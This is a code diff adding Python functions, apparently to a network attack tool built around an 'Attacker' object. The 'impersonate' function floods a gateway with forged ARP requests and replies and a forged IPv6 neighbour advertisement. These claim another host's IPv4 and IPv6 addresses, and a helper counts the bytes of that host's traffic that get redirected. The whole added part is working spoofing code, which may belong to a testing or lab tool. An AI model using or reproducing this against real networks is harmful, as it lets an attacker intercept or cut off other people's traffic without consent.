@@ -191,3 +191,32 @@ def _own_address(gateway: str) -> str:
     with socket.socket(family, socket.SOCK_DGRAM) as probe:
         probe.connect((gateway, 9))
         return str(probe.getsockname()[0])
+
+
+def impersonate(attacker: Attacker, addresses: tuple[str, str], *, for_s: float) -> tuple[int, int]:
+    """Say to the gateway, over and over, that these addresses are here: how often, and how many bytes for them came."""
+    four, six = addresses
+    ear, until, told, received = attacker.listen(), time.monotonic() + for_s, 0, 0
+    gateway = (attacker.gateway_mac, attacker.gateway4)
+    claims = [(frame.arp(kind=kind, sender=(attacker.mac, four), target=gateway), frame.ETH_ARP) for kind in (1, 2)]
+    ends = frame.between(src=six, dst=attacker.gateway6)
+    body = frame.packed(six) + b"\x02\x01" + frame.hardware(attacker.mac)
+    advert = frame.icmp6(136, 0, b"\x60\0\0\0", body, **ends)
+    claims.append((frame.ipv6(advert, **ends, proto=frame.ICMPV6, ttl=255), frame.ETH_IPV6))
+    with ear:
+        while time.monotonic() < until:
+            for payload, kind in claims:
+                attacker.send_ethernet(payload, kind)
+            told += 1
+            while select.select([ear], [], [], 0.02)[0]:
+                received += _meant_for(ear.recv(65_536), attacker, addresses)
+    return told, received
+
+
+def _meant_for(data: bytes, attacker: Attacker, addresses: tuple[str, str]) -> int:
+    if data[:6] != frame.hardware(attacker.mac):
+        return 0
+    kind, own = int.from_bytes(data[12:14]), {frame.packed(address) for address in addresses}
+    if kind == frame.ETH_IPV4 and data[30:34] in own:
+        return len(data) - 34
+    return len(data) - 54 if kind == frame.ETH_IPV6 and data[38:54] in own and data[20] != frame.ICMPV6 else 0
